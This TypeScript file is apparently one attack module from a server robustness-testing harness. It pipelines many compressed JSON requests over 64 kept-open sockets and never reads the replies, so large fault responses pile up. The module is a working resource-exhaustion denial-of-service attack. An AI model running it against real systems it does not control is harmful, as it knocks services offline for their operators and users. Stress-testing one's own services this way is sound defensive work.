import { gzipSync } from 'node:zlib';
import { type Attack, keepOpen, postHead } from '../harness/attack.ts';

const BODY = gzipSync(JSON.stringify(Array(10_000).fill({})));
const REQUEST = Buffer.concat([
  Buffer.from(postHead('content-encoding: gzip', `content-length: ${BODY.length}`)),
  BODY,
]);

/** Pipelines requests of 71 bytes whose answers list many faults, and reads none of the answers. */
const attack: Attack = (target, signal) =>
  keepOpen(target, signal, 64, (socket) => {
    socket.pause();
    socket.write(Buffer.concat(Array(90).fill(REQUEST)));
  });
export default attack;
